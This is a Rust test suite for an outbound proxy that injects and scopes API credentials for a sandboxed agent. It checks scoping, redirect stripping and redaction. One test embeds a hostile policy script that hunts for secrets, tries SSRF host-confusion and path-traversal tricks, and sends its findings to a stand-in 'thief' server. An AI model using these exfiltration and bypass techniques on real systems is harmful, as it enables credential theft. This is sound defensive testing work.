//! Keyless credentials: what arrives at a real upstream, where they do not go, and what comes back.

use std::process::Command;

use crate::harness::partner::Partner;
use crate::harness::{Project, json, plain};

/// Sends what the agent asked for by the binding that its path begins with.
const POLICY: &str = r#"
export default { async fetch(request, env) {
  const url = new URL(request.url);
  const [, binding, ...path] = url.pathname.split("/");
  url.pathname = path.join("/");
  try { return await env[binding].fetch(new Request(url, request)); } catch (error) { return new Response(`${error}`, { status: 599 }); }
} };
"#;

const AGENT: &str = r#"
export default { fetch(request) {
  const url = new URL(request.url);
  const headers = { authorization: "Bearer the agent's own", "x-key": "the agent's own", "x-signature": "forged" };
  const init = { method: request.method, headers, body: request.body };
  return fetch(`http://127.0.0.1:PORT${url.pathname}${url.search}`, init);
} };
"#;

fn project(upstream: &Partner, credentials: &str) -> Project {
    let names: Vec<&str> = credentials
        .lines()
        .filter_map(|line| line.trim().strip_prefix("[credentials.")?.strip_suffix(']'))
        .collect();
    let bindings: Vec<String> = names
        .iter()
        .map(|name| format!("{{ binding = \"{name}\", credential = \"{name}\" }}"))
        .collect();
    let project = Project::new(&[("policy.js", POLICY)]);
    project.write("agent.js", &AGENT.replace("PORT", &upstream.address.port().to_string()));
    project.write(
        "workerd-lite.toml",
        &format!(
            "main = 'agent.js'\n[network]\nallow = ['local']\n[outbound]\nmain = 'policy.js'\ncredentials = [{}]\n{credentials}",
            bindings.join(", ")
        ),
    );
    project.write(".dev.vars", "TOKEN=canary-5f1d+/=\nPASSWORD=\"canary pass:word\"\n");
    project
}

const SIMPLE: &str = r#"
[credentials.bearer]
type = "bearer"
secret = "TOKEN"
hosts = ["127.0.0.1"]
[credentials.basic]
type = "basic"
username = "ann"
secret = "PASSWORD"
hosts = ["127.0.0.1"]
[credentials.header]
type = "header"
header = "X-Key"
prefix = "Key "
secret = "TOKEN"
hosts = ["127.0.0.1"]
[credentials.query]
type = "query"
parameter = "api key"
secret = "TOKEN"
hosts = ["127.0.0.1"]
[credentials.hmac]
type = "hmac"
header = "X-Signature"
secret = "TOKEN"
hosts = ["127.0.0.1"]
[credentials.sigv4]
type = "sigv4"
access_key_id = "AKIDEXAMPLE"
secret = "TOKEN"
region = "us-east-1"
service = "s3"
hosts = ["127.0.0.1"]
"#;

#[test]
fn each_kind_is_attached_in_the_place_of_the_agents_own() {
    let upstream = plain();
    let server = project(&upstream, SIMPLE).serve(&[]);
    let headers = |path: &str| json(&server.get(path).body)["headers"].clone();
    // Values that come back in a body are not touched without `redact = "body"`.
    assert_eq!(headers("/bearer/x")["authorization"], "Bearer canary-5f1d+/=");
    assert_eq!(
        headers("/basic/x")["authorization"],
        "Basic YW5uOmNhbmFyeSBwYXNzOndvcmQ="
    );
    let header = headers("/header/x");
    assert_eq!(header["x-key"], "Key canary-5f1d+/=");
    assert_eq!(header["authorization"], "Bearer the agent's own");
    let query = json(&server.get("/query/x?a=1&api%20key=mine&api+key=too").body);
    assert_eq!(query["path"], "/x?a=1&api+key=canary-5f1d%2B%2F%3D");

    let signed = headers("/hmac/p?q=1")["x-signature"].as_str().unwrap().to_owned();
    let (time, tag) = signed.strip_prefix("t=").unwrap().split_once(",v1=").unwrap();
    let tag = tag.strip_suffix(",body=sha256").unwrap();
    let empty = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
    let canonical = format!("GET\n{}\n/p?q=1\n{time}\n{empty}", upstream.address);
    assert_eq!(tag, openssl_hmac("canary-5f1d+/=", &canonical));
}

#[test]
fn hmac_says_whether_the_body_is_covered() {
    let upstream = plain();
    let server = project(&upstream, SIMPLE).serve(&[]);
    let arguments = ["-X", "PUT", "-H", "Transfer-Encoding: chunked", "-d", "some body"];
    let answer = json(&server.curl("/hmac/p%20q?a=%2F&a", &arguments).body);
    let signed = answer["headers"]["x-signature"].as_str().unwrap();
    let fields: std::collections::BTreeMap<&str, &str> =
        signed.split(',').map(|field| field.split_once('=').unwrap()).collect();
    assert_eq!(fields["body"], "unsigned", "{signed}");
    // The fifth line covers it: who writes `body=sha256` instead has another hash to show.
    let canonical = format!(
        "PUT\n{}\n/p%20q?a=%2F&a\n{}\nUNSIGNED-PAYLOAD",
        upstream.address, fields["t"]
    );
    assert_eq!(fields["v1"], openssl_hmac("canary-5f1d+/=", &canonical));
}

fn openssl_hmac(key: &str, text: &str) -> String {
    let script = "printf %s \"$1\" | openssl dgst -sha256 -hmac \"$2\"";
    let output = Command::new("sh")
        .args(["-c", script, "sh", text, key])
        .output()
        .unwrap();
    let text = String::from_utf8(output.stdout).unwrap();
    text.trim().rsplit(' ').next().unwrap().to_owned()
}

#[test]
fn sigv4_signs_whole_and_streamed_bodies_as_curl_does() {
    let upstream = plain();
    let server = project(&upstream, SIMPLE).serve(&[]);
    let headers = |arguments: &[&str]| json(&server.curl("/sigv4/bucket/a%20b?x=1", arguments).body)["headers"].clone();
    let streamed = headers(&["-X", "PUT", "-H", "Transfer-Encoding: chunked", "-d", "some body"]);
    assert_eq!(streamed["x-amz-content-sha256"], "UNSIGNED-PAYLOAD");
    let authorization = streamed["authorization"].as_str().unwrap();
    assert!(
        authorization.starts_with("AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/")
            && authorization.contains("/us-east-1/s3/aws4_request"),
        "{authorization}"
    );
    assert_eq!(streamed["x-amz-date"].as_str().unwrap().len(), 16);
    let curls = |date: &str| {
        // curl signs by itself, for the same moment.
        let output = Command::new("curl")
            .args([
                "-sS",
                "--aws-sigv4",
                "aws:amz:us-east-1:s3",
                "--user",
                "AKIDEXAMPLE:canary-5f1d+/=",
            ])
            .args([
                "-H",
                &format!("X-Amz-Date: {date}"),
                "-H",
                "x-amz-content-sha256: UNSIGNED-PAYLOAD",
                "-X",
                "PUT",
            ])
            .arg(format!("http://{}/bucket/a%20b?x=1", upstream.address))
            .output()
            .unwrap();
        json(&String::from_utf8(output.stdout).unwrap())["headers"]["authorization"].clone()
    };
    let signature = |value: &serde_json::Value| value.as_str().unwrap().rsplit("Signature=").next().unwrap().to_owned();
    let own = curls(streamed["x-amz-date"].as_str().unwrap());
    let signed = |value: &str| {
        value
            .split("SignedHeaders=")
            .nth(1)
            .unwrap()
            .split(',')
            .next()
            .unwrap()
            .to_owned()
    };
    assert_eq!(signed(authorization), signed(own.as_str().unwrap()), "{own}");
    assert_eq!(signature(&streamed["authorization"]), signature(&own));
}

#[test]
fn a_credential_goes_nowhere_else() {
    let upstream = plain();
    let config = r#"
[credentials.repos]
type = "bearer"
secret = "TOKEN"
hosts = ["127.0.0.1"]
methods = ["GET"]
paths = ["/repos/acme/*"]
[credentials.elsewhere]
type = "bearer"
secret = "TOKEN"
hosts = ["api.example", "127.0.0.1:1"]
[credentials.secure]
type = "bearer"
secret = "TOKEN"
hosts = ["*"]
"#;
    let project = project(&upstream, config);
    let server = project.serve(&[]);
    server.logged("\"secure\" is bound to every host");
    let allowed = server.get("/repos/repos/acme/1");
    assert!(allowed.body.contains("canary-5f1d"), "{}", allowed.body);
    let before = upstream.requests.load(std::sync::atomic::Ordering::SeqCst);
    for (path, arguments, part) in [
        ("/repos/other", &[][..], "path"),
        ("/repos/repos/acme", &[], "path"),
        ("/repos/repos/acme/..%2fother", &["--path-as-is"], "path"),
        ("/repos/repos/acme/%2e%2e/%2e%2e/other", &["--path-as-is"], "path"),
        ("/repos/repos/acme/..%5cother", &["--path-as-is"], "path"),
        ("/repos/repos/acme/x", &["-X", "DELETE"], "method"),
        ("/repos/repos/acme/x", &["-X", "POST", "-d", "x"], "method"),
        ("/elsewhere/x", &[], "host"),
    ] {
        // The same answer as a rule's: a client that reads it does not try again.
        let answer = server.curl(path, arguments);
        assert_eq!(answer.status, 403, "{path}: {}", answer.body);
        assert!(
            answer.headers.contains("content-type: application/problem+json"),
            "{}",
            answer.headers
        );
        let problem = json(&answer.body);
        assert_eq!(
            (&problem["status"], &problem["title"]),
            (&403.into(), &"Egress denied".into())
        );
        let detail = problem["detail"].as_str().unwrap();
        assert!(
            detail.contains(part) && detail.contains("127.0.0.1"),
            "{path}: {detail}"
        );
        assert!(problem["remedy"].as_str().unwrap().starts_with("Do not retry"));
        for inside in ["repos\"", "elsewhere", "TOKEN", "api.example", "acme"] {
            assert!(
                !answer.body.contains(inside),
                "{path}: {inside} is told: {}",
                answer.body
            );
        }
    }
    // The owner reads which.
    server.logged("\"elsewhere\" is not bound to this host");
    assert_eq!(upstream.requests.load(std::sync::atomic::Ordering::SeqCst), before);
    drop(server);
    // In the clear to a host that is not this machine.
    project.write(
        "agent.js",
        "export default { fetch: () => fetch('http://192.0.2.1/secure/x') };",
    );
    let answer = project.serve(&[]).get("/");
    assert!(
        answer.status == 403 && answer.body.contains("must use https"),
        "{}",
        answer.body
    );
}

#[test]
fn a_redirect_carries_no_credential_on() {
    let (upstream, other) = (plain(), plain());
    let project = project(&upstream, SIMPLE);
    project.write(
        "policy.js",
        r#"export default { async fetch(request, env) {
          const [, binding] = new URL(request.url).pathname.split("/");
          return env[binding].fetch(`http://127.0.0.1:PORT/redirect?TARGET`, { redirect: "follow" });
        } };"#
            .replace("PORT", &upstream.address.port().to_string())
            .replace("TARGET", &format!("http://127.0.0.1:{}/after", other.address.port()))
            .as_str(),
    );
    let server = project.serve(&[]);
    for binding in ["bearer", "basic", "header", "query", "hmac"] {
        let answer = server.get(&format!("/{binding}/x"));
        let seen = json(&answer.body);
        // The upstream wrote its whole query into Location, the attached parameter too: that was taken out.
        let path = seen["path"].as_str().unwrap();
        assert!(
            path == "/after" || path == "/after&api+key=[redacted]",
            "{binding}: {path}"
        );
        assert!(
            !answer.body.contains("canary") && !answer.body.contains("YW5u"),
            "{binding}: {}",
            answer.body
        );
        assert!(seen["headers"].get("x-signature").is_none(), "{binding}");
    }
}

#[test]
fn a_secret_that_comes_back_is_taken_out() {
    let upstream = plain();
    let server = project(&upstream, &SIMPLE.replace("hosts =", "redact = \"body\"\nhosts =")).serve(&[]);
    let headers_only = project(&upstream, SIMPLE).serve(&[]);
    for path in ["/bearer/reflect", "/basic/reflect", "/header/reflect", "/query/reflect"] {
        let answer = server.get(path);
        assert_eq!(answer.status, 200);
        for (name, text) in [("headers", &answer.headers), ("body", &answer.body)] {
            for form in [
                "canary",
                "5f1d",
                "Y2FuYXJ5",
                "y2fuyxj5",
                "YW5uOmNh",
                "yw5uomnh",
                "pass:word",
            ] {
                assert!(!text.contains(form), "{path} {name}: {text}");
            }
            assert!(text.contains("x-signature") || name == "body", "{text}");
        }
        let plain = headers_only.get(path);
        assert!(
            !plain.headers.contains("canary") && plain.status == 200,
            "{}",
            plain.headers
        );
    }
}

#[test]
fn a_policy_that_wants_to_leak_has_nothing_to_leak() {
    let (upstream, thief) = (plain(), plain());
    let project = project(&upstream, &SIMPLE.replace("hosts =", "redact = \"body\"\nhosts ="));
    let scoped = format!("127.0.0.1:{}", upstream.address.port());
    let config = std::fs::read_to_string(project.path().join("workerd-lite.toml")).unwrap();
    project.write(
        "workerd-lite.toml",
        &config.replace("\"127.0.0.1\"", &format!("{scoped:?}")),
    );
    let policy = r#"
        const found = [];
        function walk(value, seen = new Set()) {
          if (typeof value === "string") return void found.push(value);
          if ((typeof value !== "object" && typeof value !== "function") || value === null || seen.has(value)) return;
          seen.add(value);
          for (const key of Reflect.ownKeys(value)) {
            found.push(String(key));
            let member;
            try { member = value[key]; } catch (error) { member = String(error?.stack); }
            walk(member, seen);
          }
          walk(Object.getPrototypeOf(value), seen);
        }
        export default { async fetch(request, env, ctx) {
          walk({ env, ctx, own: globalThis });
          const bindings = ["bearer", "basic", "header", "query", "hmac", "sigv4"];
          for (const name of bindings) {
            const binding = env[name];
            found.push(JSON.stringify(binding), String(binding), binding.toString(), JSON.stringify(Object.getOwnPropertyDescriptors(binding)));
            for (const method of ["get", "toJSON", "value", "secret", "reveal"]) {
              try { found.push(JSON.stringify(await binding[method]?.())); } catch (error) { found.push(String(error), error.stack); }
            }
            for (const url of [
              "http://127.0.0.1:UPSTREAM/reflect", "http://127.0.0.1:UPSTREAM/redirect?http://127.0.0.1:THIEF/taken",
              "http://127.0.0.1:THIEF/taken", "http://localhost:THIEF/taken", "http://127.0.0.1:UPSTREAM@127.0.0.1:THIEF/taken",
              "http://2130706433:THIEF/taken", "http://127.0.0.1:1/", "http://\u0000/",
            ]) {
              for (const init of [{}, { headers: { host: "127.0.0.1:UPSTREAM", "x-forwarded-host": "a" } }, { redirect: "follow" }, { method: "POST", body: "x" }]) {
                try {
                  const response = await binding.fetch(url, init);
                  found.push(response.url, [...response.headers].join(), response.statusText, await response.text());
                } catch (error) { found.push(String(error), error.stack, String(error.cause)); }
              }
            }
          }
          const text = found.join("\n");
          console.log(text.slice(0, 100_000));
          await fetch("http://127.0.0.1:THIEF/plain", { method: "POST", body: text, headers: { "x-found": encodeURIComponent(text.slice(0, 2000)) } });
          if (new URL(request.url).search) throw new Error(text);
          return new Response(text, { headers: { "x-length": String(found.length) } });
        } };"#;
    let ports = |text: &str| {
        text.replace("UPSTREAM", &upstream.address.port().to_string())
            .replace("THIEF", &thief.address.port().to_string())
    };
    project.write("policy.js", &ports(policy));
    let server = project.serve(&["--dev"]);
    let answers = [server.get("/"), server.get("/?throw")];
    assert_eq!(answers[0].status, 200, "{}", answers[0].body);
    assert!(answers[0].body.len() > 10_000, "the walk found nothing at all");
    let log = server.log();
    for form in ["canary", "5f1d+", "Y2FuYXJ5", "YW5uOmNh", "pass:word"] {
        for text in [&answers[0].body, &answers[0].headers, &answers[1].body, &log] {
            if let Some(at) = text.find(form) {
                panic!(
                    "{form} leaked: …{}…",
                    &text[at.saturating_sub(200)..text.len().min(at + 100)]
                );
            }
        }
    }
    // The thief was met by the plain fetch alone, and by redirects that carried nothing.
    assert!(thief.requests.load(std::sync::atomic::Ordering::SeqCst) > 0);
}
